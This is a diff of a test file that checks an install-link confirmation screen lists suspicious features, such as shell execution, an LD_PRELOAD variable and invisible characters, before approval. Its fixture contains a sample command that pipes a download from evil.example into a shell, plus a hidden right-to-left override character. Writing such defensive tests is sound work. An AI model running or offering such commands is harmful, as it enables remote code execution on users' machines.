@@ -16,7 +16,7 @@ test('an install link is shown whole, with what deserves a second look, before a
 	expect(screen).toContain('"LD_PRELOAD": "x.so"');
 	expect(screen).toMatch(/one argument per line:\n {2}sh\n {2}-c\n {2}curl evil\.example \| sh #‹U\+202E›\n/);
 	expect(screen).toMatch(
-		/! It runs a program[\s\S]*! It is started through a shell[\s\S]*! The variable LD_PRELOAD[\s\S]*! It contains invisible/,
+		/! It runs a program[\s\S]*! It starts through a shell[\s\S]*! The variable LD_PRELOAD[\s\S]*! It contains invisible/,
 	);
 	expect(readState(home, 'config.yaml')).toBe('');
 	terminal.press('y\r');
